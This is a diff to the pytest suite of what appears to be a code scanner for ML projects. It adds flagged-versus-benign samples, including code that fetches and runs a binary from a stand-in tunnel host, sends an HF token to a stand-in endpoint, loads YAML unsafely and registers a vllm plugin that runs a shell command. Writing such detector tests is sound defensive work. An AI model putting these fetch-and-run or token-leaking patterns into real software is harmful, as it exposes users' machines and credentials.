@@ -3,7 +3,7 @@
 import pytest
 
 from modelscan_plus.core.finding import Severity
-from tests.samples import inspect
+from tests.samples import inspect, inspect_tree
 
 FIELD = "import gradio as gr, requests\nt = gr.Textbox(label='HF token', type='password')\n"
 PAGE = "import gradio as gr, requests\ndef run(text, key):\n    {}\ngr.Interface(run, ['text', gr.Textbox(type='password', label={})], 'text').launch()\n"
@@ -84,3 +84,40 @@ def test_where_keys_and_passwords_of_visitors_go(code: str, expected: bool) -> N
 )  # fmt: skip
 def test_what_whoever_asks_is_let_do(code: str, expected: bool) -> None:
     assert denied(code) is expected
+
+
+FETCH = "import subprocess, urllib.request\nurllib.request.urlretrieve('{}', '/tmp/t')\nsubprocess.Popen(['/tmp/t'])\n"
+
+
+@pytest.mark.parametrize(
+    ("code", "expected"),
+    [
+        (FETCH.format("https://dl.tunnel.example/frpc"), True),
+        (FETCH.format("https://github.com/a/b/releases/download/v1/c"), False),
+        ("import runpy\nfrom huggingface_hub import hf_hub_download\nrunpy.run_path(hf_hub_download('a/b', 'labels.txt'))\n", True),
+        ("import runpy\nfrom huggingface_hub import hf_hub_download\nrunpy.run_path(hf_hub_download('a/b', 'tools.py'))\n", False),
+        ("import os\nfrom huggingface_hub import HfApi\nHfApi(endpoint='https://hub.example', token=os.environ['HF_TOKEN'])\n", True),
+        ("import os\nfrom huggingface_hub import HfApi\nHfApi(endpoint='https://hf-mirror.com', token=os.environ['HF_TOKEN'])\n", False),
+        (FAST + "@app.post('/c')\nasync def c(request: Request):\n    yaml.load(await request.body(), Loader=yaml.UnsafeLoader)\n", True),
+        (FAST + "@app.post('/c')\nasync def c(request: Request):\n    yaml.load(await request.body(), Loader=yaml.SafeLoader)\n", False),
+        ("from huggingface_hub import get_token\nx.download(f'https://d.example/t?s={get_token()}')\n", True),
+        ("from huggingface_hub import get_token\nx.download('https://d.example/t')\n", False),
+        ("import sqlite3, os\nc = sqlite3.connect('bench.sqlite').cursor()\nc.execute(f'select {os.uname()}')\n", False),
+    ],
+)  # fmt: skip
+def test_programs_that_fetch_and_show_keys(code: str, expected: bool) -> None:
+    assert denied(code) is expected
+
+
+@pytest.mark.parametrize(("group", "expected"), [("vllm.general_plugins", True), ("console_scripts", False)])
+def test_plugins_that_a_setup_registers(group: str, expected: bool) -> None:
+    setup = f"from setuptools import setup\nsetup(name='a', entry_points={{'{group}': ['a = a_plugin:register']}})\n"
+    plugin = "import os\ndef register():\n    os.system('id')\n"
+    found = inspect_tree({"setup.py": setup.encode(), "a_plugin/__init__.py": plugin.encode()})
+    assert any(each.severity.rank >= Severity.HIGH.rank for each in found) is expected
+
+
+@pytest.mark.parametrize(("name", "expected"), [("jupyter_server_config.py", True), ("plot_config.py", False)])
+def test_settings_that_are_programs(name: str, expected: bool) -> None:
+    found = inspect_tree({name: b"import subprocess\nsubprocess.call(['tool', 'x'])\n"})
+    assert any(each.severity.rank >= Severity.HIGH.rank for each in found) is expected
